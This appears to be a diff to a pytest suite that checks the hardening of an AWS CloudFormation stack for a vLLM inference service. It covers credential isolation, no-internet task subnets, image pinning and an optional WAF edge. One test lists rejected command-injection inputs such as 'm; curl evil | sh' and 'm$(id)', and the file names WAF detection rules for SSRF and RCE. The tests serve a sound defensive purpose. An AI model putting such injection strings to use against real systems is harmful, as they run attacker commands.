@@ -9,6 +9,7 @@ nothing else; plaintext Redis is refused; logs are encrypted; the VPC's traffic 
 
 from __future__ import annotations
 
+import json
 import re
 from typing import Any
 
@@ -103,10 +104,12 @@ def test_only_the_worker_container_gets_the_cache_credentials(nested: dict[str, 
     assert {"Name": "INFERQ_REDIS_AUTH", "ValueFrom": arn} in worker["Secrets"]
     vllm = resolver.value(vllm_container(gpu))
     assert "Secrets" not in vllm  # no Hugging Face token given: nothing at all
-    # the task role (shared by both containers) may read no secret; ECS's execution role reads it at start
+    # the task role (whose credentials the worker uses) may read no secret; ECS's execution role reads the cache's
+    # at start, the instances the Hugging Face token at boot
     for owner, statement in role_statements(gpu):
         if "secretsmanager:GetSecretValue" in as_list(statement["Action"]):
-            assert owner == "TaskExecutionRole", owner
+            assert owner in ("TaskExecutionRole", "InstanceRole"), owner
+            assert owner != "InstanceRole" or statement["Resource"] == {"Ref": "HuggingFaceTokenSecretArn"}
 
 
 # --- 7: alarms that arrive ---
@@ -257,3 +260,197 @@ def test_builds_install_from_the_locks_and_check_the_hashes() -> None:
     assert "--require-hashes --no-deps -r functions/$(1)/requirements.lock" in make
     dockerfile = re.sub(r"\s+", " ", (ROOT / "gpu_worker" / "Dockerfile").read_text().replace("\\\n", " "))
     assert "--require-hashes --no-deps -r gpu_worker/requirements.lock" in dockerfile
+
+
+# --- issue 47, M2: the engine reaches neither credentials nor the internet ---
+
+CREDENTIAL_VARIABLES = ("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
+                        "AWS_CONTAINER_AUTHORIZATION_TOKEN", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
+                        "ECS_CONTAINER_METADATA_URI", "ECS_CONTAINER_METADATA_URI_V4", "ECS_AGENT_URI")
+"""What ECS puts into every container of a task: the task role's credentials endpoint and its token, the metadata
+and agent endpoints."""
+
+
+def _engine(gpu: dict[str, Any]) -> dict[str, Any]:
+    resolver = Resolver(gpu, overrides={"RedisUrl": "r", "VllmImage": f"vllm/vllm-openai@{DIGEST}",
+                                        "HuggingFaceTokenSecretArn": "arn:aws:secretsmanager:us-east-1:"
+                                                                     "123456789012:secret:hf-AbCdEf"})
+    return dict(resolver.value(vllm_container(gpu)))
+
+
+def test_the_engine_starts_without_the_credentials_address_ecs_gives_every_container(
+    nested: dict[str, dict[str, Any]]
+) -> None:
+    """ECS injects AWS_CONTAINER_CREDENTIALS_RELATIVE_URI into every container of a task (awsvpc: one network
+    namespace for all). vLLM's entry point drops it and its kin before vllm starts, so no process of the container
+    knows the credentials' address; the worker's processes are in another pid namespace (no pidMode)."""
+    gpu = nested["gpu"]
+    engine = _engine(gpu)
+    entry = engine["EntryPoint"]
+    assert entry[0] == "/usr/bin/env" and entry[-1] == "vllm" and engine["Command"][0] == "serve"
+    dropped = [entry[i + 1] for i, arg in enumerate(entry[:-1]) if arg == "-u"]
+    assert set(dropped) == set(CREDENTIAL_VARIABLES)
+    assert "PidMode" not in gpu["Resources"]["TaskDefinition"]["Properties"]
+    # no secret (the Hugging Face token is read by the instance at boot), no capability, the weights offline and
+    # the model cache read-only (an engine cannot leave files for the next task on the instance)
+    assert "Secrets" not in engine
+    assert {e["Name"]: e["Value"] for e in engine["Environment"]}["HF_HUB_OFFLINE"] == "1"
+    assert engine["LinuxParameters"]["Capabilities"] == {"Drop": ["ALL"]}
+    assert [m.get("ReadOnly") for m in engine["MountPoints"]] == [True]
+    user_data = json.dumps(gpu["Resources"]["LaunchTemplate"]["Properties"])
+    assert "ECS_AWSVPC_BLOCK_IMDS=true" in user_data  # the instance role's credentials: unreachable from tasks
+
+
+def test_the_entry_point_really_starts_its_program_without_those_variables(nested: dict[str, dict[str, Any]]) -> None:
+    """The entry point as ECS runs it (the template's list, exec'd), the program a Python that prints what it
+    got, with every variable set as ECS sets them: none reaches it, and /proc/self/environ agrees."""
+    import os
+    import subprocess
+    import sys
+
+    entry = _engine(nested["gpu"])["EntryPoint"]
+    probe = "import os; print(sorted(os.environ)); print(open('/proc/self/environ', 'rb').read())"
+    env = {**os.environ, **{name: f"/v2/credentials/{name.lower()}" for name in CREDENTIAL_VARIABLES}}
+    out = subprocess.run([*entry[:-1], sys.executable, "-c", probe], env=env, capture_output=True, text=True,
+                         check=True).stdout
+    for name in CREDENTIAL_VARIABLES:
+        assert name not in out
+    assert "PATH" in out  # the rest of the environment is there
+
+
+def test_the_tasks_have_no_route_to_the_internet(nested: dict[str, dict[str, Any]]) -> None:
+    """The service puts the task's interface (the engine's and the worker's network) in subnets whose route table
+    holds no default route: the VPC (the cache, the endpoints) and S3's gateway endpoint, nothing else, whatever
+    NetworkEgress is. The instances stay where the images and weights come from."""
+    network, gpu = nested["network"], nested["gpu"]
+    resources = network["Resources"]
+    routes = [r["Properties"] for r in resources.values() if r["Type"] == "AWS::EC2::Route"]
+    assert routes and all(r["RouteTableId"] != {"Ref": "TaskRouteTable"} for r in routes)
+    tasks = {r["Properties"]["SubnetId"]["Ref"] for r in resources.values()
+             if r["Type"] == "AWS::EC2::SubnetRouteTableAssociation"
+             and r["Properties"]["RouteTableId"] == {"Ref": "TaskRouteTable"}}
+    assert tasks == {"TaskSubnetA", "TaskSubnetB"}
+    assert {"Ref": "TaskRouteTable"} in resources["S3Endpoint"]["Properties"]["RouteTableIds"]
+    for egress in ("nat", "endpoints", "nat-and-endpoints"):
+        assert Resolver(network, overrides={"Egress": egress}).value(
+            network["Outputs"]["TaskSubnetIds"]["Value"]) == "TaskSubnetA,TaskSubnetB"
+    # an existing VPC: its subnets without a route out when given, else (documented) its private subnets
+    existing = {"ExistingVpcId": "vpc-1", "ExistingPrivateSubnetIds": "subnet-p1,subnet-p2"}
+    for tasks_given, expected in (("subnet-t1,subnet-t2", "subnet-t1,subnet-t2"), ("", "subnet-p1,subnet-p2")):
+        resolver = Resolver(network, overrides={**existing, "ExistingTaskSubnetIds": tasks_given})
+        assert resolver.value(network["Outputs"]["TaskSubnetIds"]["Value"]) == expected
+    for name in ("Service", "FallbackService"):
+        subnets = gpu["Resources"][name]["Properties"]["NetworkConfiguration"]["AwsvpcConfiguration"]["Subnets"]
+        assert subnets == {"Ref": "TaskSubnetIds"}, name
+    # the worker no longer needs the internet: the scaler delivers the webhooks
+    resolved = Resolver(gpu, overrides={"RedisUrl": "r"}).value(worker_container(gpu)["Environment"])
+    assert {e["Name"]: e["Value"] for e in resolved}["INFERQ_WORKER_WEBHOOKS"] == "false"
+
+
+def test_the_hugging_face_token_is_read_by_the_instance_and_the_model_id_is_a_plain_id(
+    translated: dict[str, Any], nested: dict[str, dict[str, Any]]
+) -> None:
+    """L5: ModelId reaches a root shell script: a pattern that admits a repository id and nothing a shell reads,
+    and single quotes around it in the script."""
+    gpu = nested["gpu"]
+    for template in (translated, gpu):
+        pattern = template["Parameters"]["ModelId"]["AllowedPattern"]
+        for good in ("Qwen/Qwen2.5-1.5B-Instruct", "meta-llama/Llama-3.1-8B-Instruct", "gpt2"):
+            assert re.fullmatch(pattern, good), good
+        for bad in ("m; curl evil | sh", "m$(id)", "m'x", "a/b/c", "m `id`", "", "-rf"):
+            assert not re.fullmatch(pattern, bad), bad
+    script = gpu["Resources"]["LaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
+    assert "'${ModelId}'" in script and "${ModelId}" not in script.replace("'${ModelId}'", "")
+    assert "secretsmanager get-secret-value" in script and "'${HuggingFaceTokenSecretArn}'" in script
+    instance = [s for owner, s in role_statements(Resolver(gpu, overrides={
+        "RedisUrl": "r", "HuggingFaceTokenSecretArn": "arn:aws:secretsmanager:us-east-1:1:secret:hf"}).value(
+        {"Resources": {"InstanceRole": gpu["Resources"]["InstanceRole"]}})) if owner == "InstanceRole"]
+    assert {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue",
+            "Resource": "arn:aws:secretsmanager:us-east-1:1:secret:hf"} in instance
+
+
+def test_the_worker_base_image_is_pinned_by_digest() -> None:
+    """L5: the worker image's base, like every image the stack runs, by digest (compose's default too)."""
+    from .cfn import ROOT
+
+    dockerfile = (ROOT / "gpu_worker" / "Dockerfile").read_text()
+    base = re.search(r"^ARG PYTHON_IMAGE=(\S+)$", dockerfile, re.MULTILINE)
+    assert base and re.fullmatch(r"[a-z0-9./:-]+@sha256:[0-9a-f]{64}", base.group(1)), base
+    compose = (ROOT / "emulator" / "compose.yaml").read_text()
+    assert compose.count(f"${{PYTHON_IMAGE:-{base.group(1)}}}") == 2
+
+
+# --- issue 47, M4: an optional edge (CloudFront and AWS WAF) in front of the HTTP API ---
+
+EDGE = ("EdgeWebAcl", "EdgeDistribution")
+CACHING_DISABLED = "4135ea2d-6df8-44a3-9df3-4b5a84be39ad"  # AWS's managed cache policy CachingDisabled
+ALL_VIEWER_EXCEPT_HOST = "b689b0a8-53d0-40ab-baf2-68738e2966ac"  # its origin request policy for API Gateway
+
+
+def test_the_edge_is_off_by_default_and_a_stack_condition(translated: dict[str, Any]) -> None:
+    resources = translated["Resources"]
+    assert translated["Parameters"]["EdgeProtection"]["Default"] == "off"
+    off, waf = Resolver(translated), Resolver(translated, overrides={"EdgeProtection": "waf"})
+    for name in EDGE:
+        condition = resources[name]["Condition"]
+        assert not off.condition(condition) and waf.condition(condition), name
+    assert not off.condition(translated["Outputs"]["EdgeUrl"]["Condition"])
+    # a web ACL of the account's own, made in us-east-1, is used instead of the stack's
+    given = Resolver(translated, overrides={"EdgeProtection": "waf", "EdgeWebAclArn": "arn:aws:wafv2:us-east-1:"
+                                            "123456789012:global/webacl/mine/0a1b"})
+    assert given.condition(resources["EdgeDistribution"]["Condition"])
+    assert not given.condition(resources["EdgeWebAcl"]["Condition"])
+    distribution = given.value(resources["EdgeDistribution"]["Properties"]["DistributionConfig"])
+    assert distribution["WebACLId"].endswith("webacl/mine/0a1b")
+    # elsewhere than us-east-1 the stack cannot make a CLOUDFRONT web ACL: the stack refuses waf without one
+    rule = translated["Rules"]["EdgeWebAclOutsideUsEast1"]
+    assert Resolver(translated, overrides={"EdgeProtection": "waf", "AWS::Region": "eu-west-1"}).value(
+        rule["RuleCondition"])
+    assert not waf.value(rule["RuleCondition"])  # us-east-1
+    assert not Resolver(translated, overrides={"EdgeProtection": "waf", "AWS::Region": "eu-west-1"}).value(
+        rule["Assertions"][0]["Assert"])
+
+
+def test_the_web_acl_limits_each_address_and_blocks_no_prompt_for_what_it_quotes(translated: dict[str, Any]) -> None:
+    """The rate per source address first (429), then AWS's managed groups; their body rules only count: a body is a
+    tenant's prompt, which may quote markup, SQL or a metadata address."""
+    acl = Resolver(translated, overrides={"EdgeProtection": "waf"}).value(translated["Resources"]["EdgeWebAcl"])
+    properties = acl["Properties"]
+    assert properties["Scope"] == "CLOUDFRONT" and properties["DefaultAction"] == {"Allow": {}}
+    rules = sorted(properties["Rules"], key=lambda r: r["Priority"])
+    rate = rules[0]
+    assert rate["Statement"]["RateBasedStatement"] == {"Limit": "20000", "AggregateKeyType": "IP"}
+    assert rate["Action"]["Block"]["CustomResponse"]["ResponseCode"] == 429
+    groups = [r["Statement"]["ManagedRuleGroupStatement"] for r in rules[1:]]
+    assert [(g["VendorName"], g["Name"]) for g in groups] == [
+        ("AWS", "AWSManagedRulesAmazonIpReputationList"), ("AWS", "AWSManagedRulesCommonRuleSet"),
+        ("AWS", "AWSManagedRulesKnownBadInputsRuleSet")]
+    assert all(r["OverrideAction"] == {"None": {}} for r in rules[1:])  # the groups' own actions: they block
+    counted = {o["Name"] for g in groups for o in g.get("RuleActionOverrides", [])
+               if o["ActionToUse"] == {"Count": {}}}
+    # every rule of these groups that inspects the body (AWS's names end in _BODY) counts instead of blocking
+    assert counted == {"SizeRestrictions_BODY", "CrossSiteScripting_BODY", "GenericLFI_BODY", "GenericRFI_BODY",
+                       "EC2MetaDataSSRF_BODY", "Log4JRCE_BODY", "JavaDeserializationRCE_BODY"}
+    assert all(r["VisibilityConfig"]["CloudWatchMetricsEnabled"] for r in rules)
+    bounds = translated["Parameters"]["EdgeRateLimit"]
+    # WAF's floor; and a tenant at its own rate limit from one address is not cut at the edge (5 minutes of it)
+    tenant_rate = int(translated["Parameters"]["TenantRateLimit"]["Default"])
+    assert bounds["MinValue"] >= 10 and int(bounds["Default"]) >= tenant_rate * 300
+
+
+def test_the_distribution_caches_nothing_and_forwards_the_key_to_the_api_over_tls(translated: dict[str, Any]) -> None:
+    resolver = Resolver(translated, overrides={"EdgeProtection": "waf"})
+    config = resolver.value(translated["Resources"]["EdgeDistribution"]["Properties"]["DistributionConfig"])
+    assert config["WebACLId"] == "EdgeWebAcl.Arn"
+    (origin,) = config["Origins"]
+    assert origin["DomainName"] == "HttpApi.execute-api.us-east-1.amazonaws.com"
+    custom = origin["CustomOriginConfig"]
+    assert custom["OriginProtocolPolicy"] == "https-only" and custom["OriginSSLProtocols"] == ["TLSv1.2"]
+    assert custom["OriginReadTimeout"] <= 30  # the HTTP API's own integration limit
+    behavior = config["DefaultCacheBehavior"]
+    assert behavior["ViewerProtocolPolicy"] == "https-only" and behavior["TargetOriginId"] == origin["Id"]
+    assert (behavior["CachePolicyId"], behavior["OriginRequestPolicyId"]) == (CACHING_DISABLED, ALL_VIEWER_EXCEPT_HOST)
+    assert set(behavior["AllowedMethods"]) == {"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "POST", "DELETE"}
+    assert "CacheBehaviors" not in config  # one behaviour: nothing is cached anywhere
+    output = resolver.value(translated["Outputs"]["EdgeUrl"]["Value"])
+    assert output == "https://EdgeDistribution.DomainName/"
